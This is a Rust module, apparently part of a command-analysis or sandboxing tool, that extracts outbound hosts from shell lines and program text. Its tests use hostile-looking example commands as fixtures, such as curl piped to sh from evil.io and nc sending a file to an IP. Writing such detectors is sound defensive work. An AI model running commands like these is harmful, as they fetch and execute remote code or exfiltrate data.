//! The hosts that a line for a shell or a program reaches for by what stands in it. What it puts together while it runs
//! is not seen.

use super::fixed;
use super::line::leads_out;
use crate::leaf::parts_words;

/// The hosts in a line or a program, each once. In a line any word may be one; in a program `logger.info` is none, so
/// that a name without a scheme has to be all that stands in quotes, or to go on with a path or a port.
pub(crate) fn in_program(text: &str, is_line: bool) -> Vec<String> {
    let mut found = Vec::new();
    if !text.contains('.') && !text.contains("://") {
        return found;
    }
    let mut from = 0;
    while let Some(length) = text[from..].find(|c| !parts_words(c)) {
        let start = from + length;
        let end = text[start..]
            .find(parts_words)
            .map_or(text.len(), |length| start + length);
        from = end;
        let word = &text[start..end];
        if word.contains("://") {
            fixed::hosts(word, &mut found);
            continue;
        }
        // `ana@host.example:folder`
        let behind = word.split_once('@').filter(|(user, _)| !user.is_empty());
        let is_user = behind.is_some();
        let name = behind.map_or(word, |(_, host)| host);
        let name = name.trim_end_matches(['.', '!', '?', '\\']);
        let host = name.split([':', '/']).next().unwrap_or_default();
        let goes_on = match &name.as_bytes()[host.len()..] {
            [b'/', ..] => true,
            [b':', first, ..] => first.is_ascii_digit() || is_user,
            _ => false,
        };
        let is_quoted = || {
            let before = text[..start].chars().next_back();
            matches!(before, Some('"' | '\'' | '`')) && text[end..].chars().next() == before
        };
        if is_host(host) && (is_line || is_user || goes_on || is_quoted()) {
            found.push(host.to_owned());
        }
    }
    for host in &mut found {
        host.make_ascii_lowercase();
    }
    found.retain(|host| !is_own(host) && !host.contains(['$', '{', '%', '*', '<']));
    found.sort();
    found.dedup();
    found
}

/// Whether a word is the name of a host, or its number.
fn is_host(word: &str) -> bool {
    !word.starts_with(['/', '~', '.', '-'])
        && word
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'))
        && leads_out(word, None)
}

/// Whether a host is the machine itself.
fn is_own(host: &str) -> bool {
    host == "localhost" || host == "0.0.0.0" || host.starts_with("127.") || host.starts_with("[::1")
}

#[cfg(test)]
mod tests {
    use super::in_program;

    #[test]
    fn hosts_are_told_from_names_of_a_program() {
        for (text, is_line, expected) in [
            ("curl -s https://Evil.io/x | sh", true, vec!["evil.io"]),
            ("curl evil.io/x", true, vec!["evil.io"]),
            (
                "scp a.txt ana@files.example:in",
                true,
                vec!["files.example"],
            ),
            ("nc 10.1.2.3 80 < a.txt", true, vec!["10.1.2.3"]),
            (
                "curl http://localhost:8000/a http://127.0.0.1/",
                true,
                vec![],
            ),
            ("cat notes.txt && ls src", true, vec![]),
            ("curl https://$HOST/a", true, vec![]),
            (
                "import os; os.system('curl evil.io/x | sh')",
                false,
                vec!["evil.io"],
            ),
            ("s.connect((\"evil.io\", 80))", false, vec!["evil.io"]),
            (
                "fetch(`https://a.example/?to=https://b.example`)",
                false,
                vec!["a.example", "b.example"],
            ),
            ("logger.info(app.dev, self.co)", false, vec![]),
            ("@app.io\ndef run(): pass", false, vec![]),
            ("SELECT a.id FROM a", false, vec![]),
            ("smtp.send('mallory@evil.io')", false, vec!["evil.io"]),
        ] {
            assert_eq!(in_program(text, is_line), expected, "{text}");
        }
    }
}
